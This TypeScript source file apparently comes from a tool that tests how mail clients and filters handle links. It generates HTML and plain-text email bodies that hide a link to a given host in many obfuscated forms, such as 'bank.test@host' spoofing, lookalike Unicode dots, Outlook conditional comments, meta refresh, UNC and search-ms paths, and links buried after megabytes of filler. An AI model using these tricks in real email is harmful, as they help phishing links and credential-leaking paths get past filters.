/** Links that a mail program or the browser behind it follows to a host. */
import { base64, quotedPrintable, type Entity } from './mime.ts';
import type { Payload } from './payloads.ts';
import type { Trick, Tricks } from './trick.ts';

type Written = readonly [name: string, shownBy: string, write: (host: string) => string];

const inHtml = ([name, shownBy, write]: Written): Trick => [
  name,
  shownBy,
  ({ host }) => ({
    fields: ['Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64'],
    body: base64(utf8(write(host))),
  }),
];
const inText =
  (parameters = '', encode = base64, encoding = 'base64') =>
  ([name, shownBy, write]: Written): Trick => [
    name,
    shownBy,
    ({ host }: Payload): Entity => ({
      fields: [
        `Content-Type: text/plain; charset=utf-8${parameters}`,
        `Content-Transfer-Encoding: ${encoding}`,
      ],
      body: encode(utf8(write(host))),
    }),
  ];
const utf8 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');

const a = (href: string): string => `<p>Good morning. <a href="${href}">Read on</a></p>`;
const percent = (text: string): string =>
  [...text].map((each) => `%${each.charCodeAt(0).toString(16)}`).join('');
const decimal = (text: string): string => [...text].map((each) => `&#${each.charCodeAt(0)};`).join('');
const hex = (text: string): string =>
  [...text].map((each) => `&#x${each.charCodeAt(0).toString(16)}`).join(';');
const wide = (text: string): string =>
  text.replace(/[a-z]/g, (each) => String.fromCharCode(each.charCodeAt(0) + 0xfee0));
const dotted = (host: string, dot: string): string => host.replace('.', dot);

const addresses: readonly Written[] = [
  ['plain', 'all', (host) => a(`http://${host}/p`)],
  ['upper-case', 'all', (host) => a(`HTTP://${host.toUpperCase()}/`)],
  ['subdomain', 'all', (host) => a(`https://a.b.${host}/`)],
  ['port', 'all', (host) => a(`https://${host}:8443/`)],
  ['trailing-dot', 'browsers', (host) => a(`https://${host}./`)],
  ['ftp', 'browsers', (host) => a(`ftp://${host}/p`)],
  ['no-scheme', 'Outlook, Gmail put http:// in front', (host) => a(`${host}/p`)],
  ['no-scheme-bare', 'Outlook, Gmail put http:// in front', (host) => a(host)],
  ['no-scheme-www', 'Outlook, Gmail put http:// in front', (host) => a(`www.${host}`)],
  ['two-slashes', 'browsers', (host) => a(`//${host}/p`)],
  ['two-backslashes', 'browsers', (host) => a(`\\\\${host}\\p`)],
  ['slash-backslash', 'browsers', (host) => a(`/\\${host}/p`)],
  ['three-slashes', 'browsers', (host) => a(`///${host}/p`)],
  ['http-backslashes', 'browsers', (host) => a(`http:\\\\${host}\\p`)],
  ['http-one-slash', 'browsers', (host) => a(`http:/${host}/p`)],
  ['http-no-slash', 'browsers', (host) => a(`http:${host}/p`)],
  ['http-many-slashes', 'browsers', (host) => a(`http://///${host}/p`)],
  ['leading-blanks', 'browsers', (host) => a(`  \n http://${host}/`)],
  ['leading-controls', 'browsers', (host) => a(`\x01\x1f\x08http://${host}/`)],
  ['leading-controls-entities', 'browsers', (host) => a(`&#1;&#8;&#31;http://${host}/`)],
  ['leading-zero-width', 'Gmail', (host) => a(`\u200bhttp://${host}/`)],
  ['leading-nbsp', 'Outlook', (host) => a(`\u00a0http://${host}/`)],
  ['tab-in-scheme', 'browsers', (host) => a(`ht\ttp://${host}/`)],
  ['line-end-in-scheme', 'browsers', (host) => a(`ht\r\ntp://${host}/`)],
  ['tab-in-host', 'browsers', (host) => a(`http://${host.replace('v', '\tv')}/`)],
  ['tab-entity', 'browsers', (host) => a(`ht&Tab;tp:/&NewLine;/${host}/`)],
  ['entities-decimal', 'all', (host) => a(decimal(`http://${host}/`))],
  ['entities-hex-unclosed', 'browsers', (host) => a(`${hex('http://')};${host}`)],
  ['entities-named', 'browsers', (host) => a(`http&colon;&sol;&sol;${dotted(host, '&period;')}/`)],
  ['entities-leading-zeros', 'browsers', (host) => a(`&#0000000104;ttp://${host}/`)],
  ['userinfo', 'browsers', (host) => a(`http://bank.test@${host}/`)],
  ['userinfo-password', 'browsers', (host) => a(`http://bank.test:443@${host}/`)],
  ['userinfo-many', 'browsers', (host) => a(`http://a@b@${host}/`)],
  ['userinfo-backslash', 'browsers', (host) => a(`http://${host}\\@bank.test/`)],
  ['percent-encoded-host', 'browsers', (host) => a(`http://${percent(host)}/`)],
  ['percent-encoded-dot', 'browsers', (host) => a(`http://${dotted(host, '%2e')}/`)],
  ['percent-encoded-wide-dot', 'browsers', (host) => a(`http://${dotted(host, '%E3%80%82')}/`)],
  ['ideographic-dot', 'browsers', (host) => a(`http://${dotted(host, '。')}/`)],
  ['fullwidth-dot', 'browsers', (host) => a(`http://${dotted(host, '．')}/`)],
  ['halfwidth-dot', 'browsers', (host) => a(`http://${dotted(host, '｡')}/`)],
  ['fullwidth-letters', 'browsers', (host) => a(`http://${wide(host)}/`)],
  ['circled-letter', 'browsers', (host) => a(`http://${host.replace('e', 'ⓔ')}/`)],
  ['soft-hyphen-in-host', 'browsers', (host) => a(`http://${host.replace('l.', 'l\u00ad.')}/`)],
  ['zero-width-in-host', 'browsers', (host) => a(`http://${host.replace('l.', 'l\u200b.')}/`)],
  ['joiner-in-host', 'browsers', (host) => a(`http://${host.replace('l.', 'l\u2060.')}/`)],
  ['fragment-first', 'browsers', (host) => a(`http://${host}#@bank.test/`)],
  ['query-first', 'browsers', (host) => a(`http://${host}?@bank.test/`)],
  ['redirector', 'who follows it', (host) => a(`http://go.test/?u=http%3A%2F%2F${host}%2F`)],
  [
    'redirector-twice-encoded',
    'who follows it',
    (host) => a(`http://go.test/?u=http%253A%252F%252F${host}%252F`),
  ],
  ['redirector-no-scheme', 'who follows it', (host) => a(`http://go.test/url?q=${host}/p`)],
  ['view-source', 'browsers', (host) => a(`view-source:http://${host}/`)],
  ['feed', 'browsers', (host) => a(`feed:http://${host}/`)],
  ['webcal', 'Apple Mail, Outlook', (host) => a(`webcal://${host}/p`)],
  ['ms-office', 'Outlook', (host) => a(`ms-word:ofe|u|http://${host}/p`)],
  ['search-ms', 'Windows', (host) => a(`search-ms:query=a&crumb=location:\\\\${host}@80\\p`)],
  ['file', 'Outlook', (host) => a(`file://${host}/p`)],
  ['file-unc', 'Outlook', (host) => a(`file:\\\\\\\\${host}\\p`)],
  ['data-html', 'Thunderbird', (host) => a(`data:text/html,<a href='http://${host}/'>a</a>`)],
  [
    'data-html-base64',
    'Thunderbird',
    (host) => a(`data:text/html;base64,${Buffer.from(`<a href="http://${host}/">a</a>`).toString('base64')}`),
  ],
  ['url-long', 'all', (host) => a(`http://${'a'.repeat(2_100)}@${host}/`)],
  [
    'url-1001st',
    'all',
    (host) =>
      Array.from({ length: 1_000 }, (_, i) => a(`http://a.test/${i % 150}`)).join('') + a(`http://${host}/`),
  ],
  [
    'url-201st',
    'all',
    (host) => Array.from({ length: 200 }, (_, i) => a(`http://a.test/${i}`)).join('') + a(`http://${host}/`),
  ],
];

const markup: readonly Written[] = [
  ['unquoted', 'all', (host) => `<a href=http://${host}/p>a</a>`],
  ['single-quotes', 'all', (host) => `<a href='http://${host}/p'>a</a>`],
  ['blanks-around-equals', 'all', (host) => `<a href\n = \n "http://${host}/p">a</a>`],
  ['upper-case', 'all', (host) => `<A HREF="http://${host}/p">a</A>`],
  ['slash-for-blank', 'browsers', (host) => `<a/href="http://${host}/p">a</a>`],
  ['form-feed-for-blank', 'browsers', (host) => `<a\fhref="http://${host}/p">a</a>`],
  ['attributes-joined', 'browsers', (host) => `<a title="x"href="http://${host}/p">a</a>`],
  ['quote-in-name', 'browsers', (host) => `<a "x" href="http://${host}/p">a</a>`],
  ['equals-first', 'browsers', (host) => `<a =x href="http://${host}/p">a</a>`],
  ['greater-in-value', 'browsers', (host) => `<a title=">" href="http://${host}/p">a</a>`],
  ['less-in-name', 'browsers', (host) => `<a<b href="http://${host}/p">a</a>`],
  ['less-in-tag', 'browsers', (host) => `<a <b href="http://${host}/p">a</a>`],
  [
    'href-twice',
    'browsers take the first',
    (host) => `<a href="http://${host}/p" href="http://bank.test/">a</a>`,
  ],
  [
    'href-twice-last',
    'some take the last',
    (host) => `<a href="http://bank.test/" href="http://${host}/p">a</a>`,
  ],
  [
    'attributes-150',
    'browsers',
    (host) =>
      `<a ${Array.from({ length: 150 }, (_, i) => `x${i}=1`).join(' ')} href="http://${host}/p">a</a>`,
  ],
  ['attribute-name-long', 'browsers', (host) => `<a ${'x'.repeat(300)}=1 href="http://${host}/p">a</a>`],
  ['tag-name-long', 'browsers', (host) => `<${'x'.repeat(300)}><a href="http://${host}/p">a</a>`],
  ['tag-not-closed', 'browsers drop it, Outlook does not', (host) => `<a href="http://${host}/p"`],
  ['value-not-closed', 'Outlook', (host) => `<a href="http://${host}/p>a</a>`],
  ['nul-in-tag', 'Outlook drops NUL', (host) => `<\0a h\0ref="http://${host}/p">a</a>`],
  ['comment-bang-end', 'browsers', (host) => `<!-- x --!><a href="http://${host}/p">a</a><!-- -->`],
  ['comment-empty', 'browsers', (host) => `<!--><a href="http://${host}/p">a</a><!-- -->`],
  ['comment-empty-hyphen', 'browsers', (host) => `<!---><a href="http://${host}/p">a</a><!-- -->`],
  ['comment-hyphens', 'browsers', (host) => `<!------><a href="http://${host}/p">a</a><!-- -->`],
  ['comment-not-closed', 'Outlook shows what follows', (host) => `<!-- x <a href="http://${host}/p">a</a>`],
  ['comment-bogus', 'browsers end it at the first >', (host) => `<!x--><a href="http://${host}/p">a</a>`],
  ['comment-bogus-slash', 'browsers', (host) => `</ x><a href="http://${host}/p">a</a>`],
  ['comment-bogus-question', 'browsers', (host) => `<?x ><a href="http://${host}/p">a</a>?>`],
  [
    'cdata',
    'browsers: a comment up to the first >',
    (host) => `<![CDATA[ > <a href="http://${host}/p">a</a> ]]>`,
  ],
  ['conditional-mso', 'Outlook', (host) => `<!--[if mso]><a href="http://${host}/p">a</a><![endif]-->`],
  [
    'conditional-gte',
    'Outlook',
    (host) => `<!--[if gte mso 9]><p><a href="http://${host}/p">a</a></p><![endif]-->`,
  ],
  [
    'conditional-entities',
    'Outlook',
    (host) => `<!--[if mso]><a href="&#104;ttp://${host}/p">a</a><![endif]-->`,
  ],
  [
    'conditional-not-mso',
    'all but Outlook',
    (host) => `<!--[if !mso]><!--><a href="http://${host}/p">a</a><!--<![endif]-->`,
  ],
  [
    'conditional-revealed',
    'all but Outlook',
    (host) => `<![if !mso]><a href="http://${host}/p">a</a><![endif]>`,
  ],
  ['conditional-text', 'Outlook', (host) => `<!--[if mso]>http://${host}/p<![endif]-->`],
  [
    'vml-rect',
    'Outlook',
    (host) => `<!--[if mso]><v:rect href="http://${host}/p" style="width:9px">a</v:rect><![endif]-->`,
  ],
  [
    'vml-roundrect',
    'Outlook',
    (host) => `<v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" href="http://${host}/p">a</v:roundrect>`,
  ],
  ['vml-fill', 'Outlook', (host) => `<v:rect><v:fill type="frame" src="http://${host}/p.png"/></v:rect>`],
  ['vml-o-href', 'Outlook', (host) => `<v:image o:href="http://${host}/p.png" src="cid:a"/>`],
  [
    'srcset',
    'Apple Mail, Thunderbird',
    (host) => `<img src="cid:a" srcset="cid:b 1x, http://${host}/p.png 2x">`,
  ],
  [
    'source-srcset',
    'Apple Mail',
    (host) => `<picture><source srcset="http://${host}/p.png 1x"><img src="cid:a"></picture>`,
  ],
  ['imagesrcset', 'browsers', (host) => `<link rel=preload as=image imagesrcset="http://${host}/p.png 1x">`],
  ['img', 'all', (host) => `<img src="http://${host}/p.png">`],
  ['img-lowsrc', 'Outlook', (host) => `<img lowsrc="http://${host}/p.png">`],
  ['img-dynsrc', 'Outlook', (host) => `<img dynsrc="http://${host}/p.avi">`],
  ['img-longdesc', 'browsers', (host) => `<img longdesc="http://${host}/p" src="cid:a">`],
  ['img-usemap-area', 'all', (host) => `<map name=m><area href="http://${host}/p"></map>`],
  ['body-background', 'Outlook', (host) => `<body background="http://${host}/p.png">`],
  ['table-background', 'Outlook', (host) => `<table background="http://${host}/p.png"></table>`],
  [
    'style-attribute-url',
    'Apple Mail, Thunderbird',
    (host) => `<p style="background:url(http://${host}/p.png)">a</p>`,
  ],
  [
    'style-attribute-quoted',
    'Apple Mail',
    (host) => `<p style="background:url( 'http://${host}/p.png' )">a</p>`,
  ],
  [
    'style-attribute-escaped',
    'Apple Mail',
    (host) => `<p style="background:\\75rl(\\68ttp://${host}/p.png)">a</p>`,
  ],
  ['style-sheet-url', 'Apple Mail', (host) => `<style>p { background: url("http://${host}/p.png") }</style>`],
  ['style-sheet-import', 'Apple Mail', (host) => `<style>@import "http://${host}/p.css";</style>`],
  ['style-sheet-link', 'Apple Mail', (host) => `<link rel="stylesheet" href="http://${host}/p.css">`],
  [
    'form-action',
    'Thunderbird, Apple Mail',
    (host) => `<form action="http://${host}/p"><input type=submit></form>`,
  ],
  ['formaction', 'Thunderbird', (host) => `<form><button formaction="http://${host}/p">a</button></form>`],
  ['isindex', 'Outlook Express', (host) => `<isindex action="http://${host}/p">`],
  ['iframe', 'Thunderbird', (host) => `<iframe src="http://${host}/p"></iframe>`],
  ['iframe-srcdoc', 'browsers', (host) => `<iframe srcdoc="<a href='http://${host}/p'>a</a>"></iframe>`],
  [
    'iframe-srcdoc-entities',
    'browsers',
    (host) => `<iframe srcdoc="&lt;a href=&quot;http://${host}/p&quot;&gt;a&lt;/a&gt;"></iframe>`,
  ],
  [
    'iframe-content',
    'Outlook shows the content',
    (host) => `<iframe><a href="http://${host}/p">a</a></iframe>`,
  ],
  ['frame', 'browsers', (host) => `<frameset><frame src="http://${host}/p"></frameset>`],
  ['object-data', 'browsers', (host) => `<object data="http://${host}/p"></object>`],
  ['object-codebase', 'browsers', (host) => `<object codebase="http://${host}/p"></object>`],
  ['applet', 'Outlook Express', (host) => `<applet code=a archive="http://${host}/p.jar"></applet>`],
  ['embed', 'browsers', (host) => `<embed src="http://${host}/p">`],
  ['param', 'Outlook', (host) => `<object><param name=movie value="http://${host}/p"></object>`],
  ['video-poster', 'Apple Mail', (host) => `<video poster="http://${host}/p.png"></video>`],
  ['track', 'Apple Mail', (host) => `<video><track src="http://${host}/p.vtt"></video>`],
  ['input-image', 'Outlook', (host) => `<input type=image src="http://${host}/p.png">`],
  ['a-ping', 'browsers', (host) => `<a href="http://a.test/" ping="http://${host}/p">a</a>`],
  ['blockquote-cite', 'Thunderbird', (host) => `<blockquote cite="http://${host}/p">a</blockquote>`],
  ['html-manifest', 'browsers', (host) => `<html manifest="http://${host}/p">`],
  [
    'svg-a',
    'Thunderbird, browsers',
    (host) => `<svg><a xlink:href="http://${host}/p"><text>a</text></a></svg>`,
  ],
  ['svg-image', 'browsers', (host) => `<svg><image href="http://${host}/p.png"/></svg>`],
  ['math-href', 'Thunderbird', (host) => `<math href="http://${host}/p"><mi>a</mi></math>`],
  ['base', 'Outlook, Thunderbird', (host) => `<base href="http://${host}/"><a href="p">a</a>`],
  ['base-scheme-relative', 'browsers', (host) => `<base href="//${host}"><a href="p">a</a>`],
  ['base-unclosed', 'browsers', (host) => `<base href=http://${host}/><a href=/p>a</a>`],
  [
    'meta-refresh',
    'Outlook Express, browsers',
    (host) => `<meta http-equiv=refresh content="0;url=http://${host}/p">`,
  ],
  ['meta-refresh-no-url', 'browsers', (host) => `<meta http-equiv=refresh content="0;http://${host}/p">`],
  [
    'meta-refresh-comma',
    'browsers',
    (host) => `<meta http-equiv=refresh content="0,URL='http://${host}/p'">`,
  ],
  ['noscript', 'all: no scripts are run', (host) => `<noscript><a href="http://${host}/p">a</a></noscript>`],
  ['noframes', 'Outlook', (host) => `<noframes><a href="http://${host}/p">a</a></noframes>`],
  ['noembed', 'Outlook', (host) => `<noembed><a href="http://${host}/p">a</a></noembed>`],
  [
    'template',
    'Outlook shows the content',
    (host) => `<template><a href="http://${host}/p">a</a></template>`,
  ],
  ['textarea-end', 'browsers', (host) => `<textarea></textarea ><a href="http://${host}/p">a</a>`],
  ['title-not-closed', 'Outlook', (host) => `<title>x<body><a href="http://${host}/p">a</a>`],
  ['style-not-closed', 'Outlook', (host) => `<style>x<body><a href="http://${host}/p">a</a>`],
  [
    'script-end-prefix',
    'browsers: </scriptx is no end',
    (host) => `<script></scriptx></script><a href="http://${host}/p">a</a>`,
  ],
  ['xmp-end', 'browsers', (host) => `<xmp></xmp\n><a href="http://${host}/p">a</a>`],
  ['plaintext-text', 'browsers', (host) => `<plaintext>http://${host}/p`],
  [
    'hidden-element',
    'Outlook shows it',
    (host) => `<div style="display:none"><a href="http://${host}/p">a</a></div>`,
  ],
  ['text-only', 'all link it', (host) => `<p>See http://${host}/p</p>`],
  ['text-bare', 'Gmail, Outlook link it', (host) => `<p>See ${host}/p</p>`],
  ['text-split-by-tags', 'Gmail, Apple Mail link it', (host) => `<p>See <b>htt</b>p://<i>${host}</i>/p</p>`],
  [
    'text-split-in-host',
    'Gmail, Apple Mail link it',
    (host) => `<p>See http://${host.replace('v', '<b>v</b>')}/p</p>`,
  ],
  [
    'text-split-by-comment',
    'Gmail, Apple Mail link it',
    (host) => `<p>See http://${host.replace('v', '<!-- -->v')}/p</p>`,
  ],
  [
    'text-split-by-wbr',
    'Gmail, Apple Mail link it',
    (host) => `<p>See http://${host.replace('v', '<wbr>v')}/p</p>`,
  ],
  ['text-shy', 'Gmail', (host) => `<p>See http://${host.replace('v', '&shy;v')}/p</p>`],
  ['text-in-pre', 'all', (host) => `<pre>See http://${host}/p</pre>`],
  [
    'xml-namespace-a',
    'Outlook',
    (host) => `<html:a xmlns:html="http://www.w3.org/1999/xhtml" href="http://${host}/p">a</html:a>`,
  ],
  [
    'meta-charset-utf-7',
    'Outlook',
    (host) =>
      `<meta http-equiv=content-type content="text/html; charset=utf-7">+ADw-a href+AD0-+ACI-http://${host}/p+ACI-+AD4-a`,
  ],
  ['after-megabyte', 'all', (host) => `${'<p>x</p>'.repeat(140_000)}<a href="http://${host}/p">a</a>`],
];

const texts: readonly Written[] = [
  ['http', 'all', (host) => `See http://${host}/p now.`],
  ['upper-case', 'all', (host) => `See HTTPS://${host.toUpperCase()}/p now.`],
  ['bare-with-path', 'Outlook, Gmail, Apple Mail', (host) => `See ${host}/p now.`],
  ['bare', 'Gmail, Apple Mail', (host) => `See ${host} now.`],
  ['www', 'all', (host) => `See www.${host} now.`],
  ['in-angle-brackets', 'all', (host) => `See <http://${host}/p> now.`],
  ['in-brackets', 'all', (host) => `See [http://${host}/p] now.`],
  ['url-prefix', 'Outlook', (host) => `See <URL:http://${host}/p> now.`],
  ['letters-before', 'Gmail, Outlook', (host) => `See:xhttp://${host}/p now.`],
  ['underscore-before', 'Apple Mail', (host) => `See _http://${host}/p_ now.`],
  ['ideograph-before', 'all', (host) => `見http://${host}/p now.`],
  ['fullwidth', 'Gmail, Apple Mail', (host) => `See http://${wide(host)}/p now.`],
  ['ideographic-dot', 'Apple Mail', (host) => `See http://${dotted(host, '。')}/p now.`],
  [
    'zero-width',
    'Outlook, Gmail show it as the bare host',
    (host) => `See http://${host.replace('v', '\u200bv')}/p now.`,
  ],
  ['soft-hyphen', 'Outlook, Gmail', (host) => `See http://${host.replace('v', '\u00adv')}/p now.`],
  ['byte-order-mark', 'Outlook', (host) => `See http://${host.replace('v', '\ufeffv')}/p now.`],
  ['userinfo', 'all', (host) => `See http://bank.test@${host}/p now.`],
  ['backslashes', 'Outlook', (host) => `See http:\\\\${host}\\p now.`],
  ['unc', 'Outlook', (host) => `See \\\\${host}\\p now.`],
  ['file', 'Outlook', (host) => `See file://${host}/p now.`],
  ['percent-encoded', 'browsers', (host) => `See http://${percent(host)}/p now.`],
  [
    'broken-in-angle-brackets',
    'Thunderbird joins it (RFC 3986 appendix C)',
    (host) => `See <http://${host.slice(0, 3)}\r\n${host.slice(3)}/p> now.`,
  ],
  ['redirector', 'who follows it', (host) => `See http://go.test/?u=http%3A%2F%2F${host} now.`],
  [
    'in-201-links',
    'all',
    (host) =>
      `${Array.from({ length: 201 }, (_, i) => `http://a.test/${i}`).join('\r\n')}\r\nhttp://${host}/`,
  ],
  ['after-300-kb', 'all', (host) => `${'Good morning. '.repeat(22_000)}http://${host}/p`],
  ['after-megabyte', 'all', (host) => `${'Good morning.\r\n'.repeat(75_000)}http://${host}/p`],
];

const flowed: readonly Written[] = [
  [
    'delsp',
    'Thunderbird, Apple Mail (RFC 3676)',
    (host) => `See http://${host.slice(0, 3)} \r\n${host.slice(3)}/p now.`,
  ],
  ['delsp-in-scheme', 'Thunderbird, Apple Mail', (host) => `See ht \r\ntp:/ \r\n/${host}/p now.`],
  [
    'delsp-quoted',
    'Thunderbird, Apple Mail',
    (host) => `> See http://${host.slice(0, 3)} \r\n> ${host.slice(3)}/p now.`,
  ],
  [
    'delsp-space-stuffed',
    'Thunderbird, Apple Mail',
    (host) => `See http://${host.slice(0, 3)} \r\n ${host.slice(3)}/p now.`,
  ],
];
const softBreaks: readonly Written[] = [['quoted-printable', 'all', (host) => `See http://${host}/p now.`]];

const split = (text: string): string => quotedPrintable(text).replace(/=76/g, '=\r\n=76');

export const links: readonly Tricks[] = [
  { area: 'url', payloads: ['html'], tricks: addresses.map(inHtml) },
  { area: 'markup', payloads: ['html'], tricks: markup.map(inHtml) },
  { area: 'text', payloads: ['link'], tricks: texts.map(inText()) },
  { area: 'flowed', payloads: ['link'], tricks: flowed.map(inText('; format=flowed; delsp=yes')) },
  {
    area: 'flowed-upper-case',
    payloads: ['link'],
    tricks: flowed.slice(0, 1).map(inText('; FORMAT=Flowed; DELSP="Yes"')),
  },
  { area: 'soft-break', payloads: ['link'], tricks: softBreaks.map(inText('', split, 'quoted-printable')) },
];
